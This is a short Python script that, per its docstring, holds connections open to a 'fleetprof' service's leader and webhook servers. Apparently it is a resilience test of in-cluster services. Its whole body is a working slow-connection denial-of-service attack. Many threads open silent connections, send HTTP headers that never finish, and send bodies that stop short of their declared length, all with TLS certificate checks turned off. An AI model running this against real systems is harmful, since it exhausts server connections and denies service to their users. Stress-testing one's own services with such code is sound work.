"""Holds connections to fleetprof's servers: silent ones, heads that do not end, bodies that do not end."""

import socket
import ssl
import threading
import time

SERVERS = [
    ("fleetprof-leader.fleetprof.svc", 8443, b"/v1/enroll"),
    ("fleetprof-leader.fleetprof.svc", 8444, b"/apis"),
    ("fleetprof-webhook.fleetprof.svc", 443, b"/mutate/pods"),
    ("fleetprof-webhook.fleetprof.svc", 8444, b"/apis"),
]
OF_EACH = 8

context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE


def silent(plain, server):
    plain.settimeout(30)
    plain.recv(1)


def head(plain, server):
    with context.wrap_socket(plain, server_hostname=server[0]) as stream:
        stream.sendall(b"GET / HTTP/1.1\r\nhost: x\r\nx: " + b"a" * 400_000)
        stream.recv(1)


def body(plain, server):
    with context.wrap_socket(plain, server_hostname=server[0]) as stream:
        start = b"POST " + server[2] + b" HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
        stream.sendall(start + b"content-length: 8388608\r\n\r\n" + b"a" * 4_000_000)
        stream.recv(1)


def hold(attack, server):
    while True:
        try:
            with socket.create_connection(server[:2], timeout=10) as plain:
                attack(plain, server)
        except OSError:
            pass
        time.sleep(0.5)


print("attacks", flush=True)
for server in SERVERS:
    for attack in (silent, head, body):
        for _ in range(OF_EACH):
            threading.Thread(target=hold, args=(attack, server), daemon=True).start()
time.sleep(600)
